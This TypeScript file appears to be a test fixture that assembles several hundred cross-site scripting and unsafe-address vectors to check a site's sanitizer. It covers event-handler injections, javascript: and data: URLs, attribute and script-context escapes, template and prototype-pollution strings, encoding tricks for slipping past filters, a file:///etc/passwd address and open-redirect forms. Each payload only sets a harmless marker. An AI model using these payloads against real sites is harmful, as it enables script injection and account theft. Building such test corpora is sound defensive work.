/*
 * Texts that would run a script wherever text is taken for markup, an address or a program: our own list, put together from
 * what starts a script (ELEMENTS), what leaves the place a text stands in (EXITS), and ways to write it past a filter. Whatever
 * runs leaves a mark on the window.
 */

/** The mark that a script which ran has left. */
export const RAN = 'r4n'
/** Short, so that many of them fit into a title. */
const RUN = `top.${RAN}=1`

/** Ends whatever a text may stand in: an element, an attribute, a comment, a script, a style, a title. */
const EXITS = [
  '',
  '">',
  "'>",
  '-->',
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  ']]>',
  '</noscript>',
  '</template>',
  '*/',
  '`>',
]

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src=data:,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
  `<math><mtext><style><img src onerror=${RUN}></style></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe srcdoc="<script>parent.${RAN}=1</script>">`,
  `<iframe src="javascript:${RUN}">`,
  `<iframe onload=${RUN}>`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<button popovertarget=x onclick=${RUN}>x</button>`,
  `<video src=x onerror=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}" form=x>x</button>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href="data:text/css,*{color:red}">`,
  `<style>@import'javascript:${RUN}';*{animation:x}</style>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<div style="animation:x" onanimationstart=${RUN}>x</div>`,
  `<p contenteditable onbeforeinput=${RUN}>x</p>`,
  `<x onpointerenter=${RUN} style=position:fixed;inset:0>x</x>`,
  `<x contentvisibilityautostatechange onwebkittransitionend=${RUN}>x</x>`,
  `<noscript><p title="</noscript><img src onerror=${RUN}>">`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<!--><img src onerror=${RUN}>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<table background="javascript:${RUN}"><td>x`,
  `<listing>&lt;img src onerror=${RUN}&gt;</listing>`,
  `<isindex type=image src=x onerror=${RUN}>`,
]

/** What closes an attribute without closing its element. */
const ATTRIBUTES = ['"', "'", '`', '" ', "' ", '"/', "'/", '"\n', '"\t', '&quot; ', '&#34; ', '&#x27; ', '\\" '].flatMap(
  (exit) => [
    `${exit}onmouseover=${RUN} x=${exit.trim()}`,
    `${exit}autofocus onfocus=${RUN} x=${exit.trim()}`,
    `${exit}style=animation-name:x onanimationstart=${RUN} x=${exit.trim()}`,
  ],
)

/** The same in the spellings that filters forget. */
const SPELLINGS: readonly ((html: string) => string)[] = [
  (html) => html.toUpperCase().replaceAll(RUN.toUpperCase(), RUN),
  (html) => html.replace('<', '<\u0000'),
  (html) => html.replace('<', '<\u200b'),
  (html) => html.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (html) => html.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
  (html) => html.replaceAll('<', '&#x3c').replaceAll('>', '&#x3e'),
  (html) => html.replaceAll('<', String.raw`\u003c`).replaceAll('>', String.raw`\u003e`),
  (html) => html.replaceAll('<', String.raw`\x3c`).replaceAll('>', String.raw`\x3e`),
  (html) => html.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (html) => html.replaceAll(' ', '/'),
  (html) => html.replaceAll(' ', '\n'),
  (html) => html.replaceAll(' ', '\t'),
  (html) => html.replaceAll(/=(?=\w)/g, ' = '),
  (html) => html.replaceAll('"', "'"),
  (html) => html.replaceAll('"', '`'),
  (html) => `<<${html.slice(1)}`,
  (html) => html.replace(/>$/, ''),
  (html) => html.replace('<script>', '<scr<script>ipt>'),
  (html) => `<x>${html}</x>`,
]

/** Leaves a text inside a script, a JSON document or a template. */
const PROGRAMS = [
  `';${RUN};'`,
  `";${RUN};"`,
  `\`;${RUN};\``,
  `\\';${RUN};//`,
  `\\";${RUN};//`,
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `[[${RUN}]]`,
  `"}</script><script>${RUN}</script>`,
  `"}]}</script><img src onerror=${RUN}>`,
  `<!--<script>${RUN}`,
  `<!--<script>${RUN}//--></script>`,
  `\u2028${RUN}\u2029`,
  `*/${RUN}/*`,
  `//\n${RUN}`,
  `)};${RUN};({(`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `__proto__`,
  `constructor`,
  `{"__html":"<img src onerror=${RUN}>"}`,
  `{"$$typeof":"Symbol(react.element)","type":"script"}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src onerror=${RUN}>"}}`,
  `/*boot-script*/`,
  `/*page-style*/`,
  `/*page-data*/`,
  `$&<img src onerror=${RUN}>`,
  `$'<img src onerror=${RUN}>`,
  `$$1 $1 $<x>`,
  `expression(${RUN})`,
  `url(javascript:${RUN})`,
  `]]><script>${RUN}</script>`,
  `&lt;/title&gt;&lt;script&gt;${RUN}&lt;/script&gt;`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
]

const withExits = ELEMENTS.flatMap((html, index) =>
  // The first elements from every place, the others from every second one: enough pairs, not all of them.
  EXITS.filter((_, place) => index < 6 || (index + place) % 2 === 0).map((exit) => `${exit}${html}`),
)
const respelled = ELEMENTS.slice(0, 8).flatMap((html) => SPELLINGS.map((spell) => spell(html)))

/** At least 500, each at most 200 signs long, none twice. */
export const SCRIPT_VECTORS: readonly string[] = [...new Set([...withExits, ...respelled, ...ATTRIBUTES, ...PROGRAMS])]

const SCHEMES = [
  'javascript:',
  'JavaScript:',
  'javascript://%0a',
  'jav&#x61;script:',
  'java\nscript:',
  'java\tscript:',
  'java\u0000script:',
  '\u0001javascript:',
  ' javascript:',
  'javascript\n:',
  'javascript&colon;',
  'vbscript:',
  'livescript:',
  'mocha:',
  'view-source:',
]

/** Addresses that would run a script, or lead a page to another host in the disguise of an own one. */
export const ADDRESS_VECTORS: readonly string[] = SCHEMES.map((scheme) => `${scheme}${RUN}`).concat([
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:https://himoya.uz/1`,
  'filesystem:https://himoya.uz/x',
  'file:///etc/passwd',
  'about:blank',
  'ftp://example.com/x',
  'http://example.com/',
  'ws://example.com/',
  '//example.com/',
  '\\\\example.com\\',
  '/\\example.com/',
  '/\t/example.com/',
  'https:example.com',
  'https://user:word@example.com/',
  'https://himoya.uz@example.com/',
  'https://example.com/"onmouseover="x',
  "https://example.com/'onmouseover='x",
  'https://example.com/<script>',
  'https://example.com/`',
  'https://example.com/\\',
  'https://example.com/ x',
  '/uz/"><script>',
  "/uz/'x",
  '/uz?x=<b>',
  '/uz#"x',
  'tel:+998"onclick="x',
  'tel:112;ext=javascript',
  'mailto:a@b.uz?body=<script>',
  'mailto:"x"@b.uz',
  'sms:112',
  'intent://x#Intent;end',
  'tg://resolve?domain=x',
  '../x',
  'x',
  '?x',
  '#x',
])

/** As many vectors in one text as a title takes: one that ends its place ends it for those after it as well. */
export function packsOf(vectors: readonly string[], most: number): string[] {
  const packs: string[] = []
  for (const vector of vectors) {
    const last = packs.at(-1)
    if (last !== undefined && [...last, ...vector].length < most) packs[packs.length - 1] = `${last} ${vector}`
    else packs.push(vector)
  }
  return packs
}
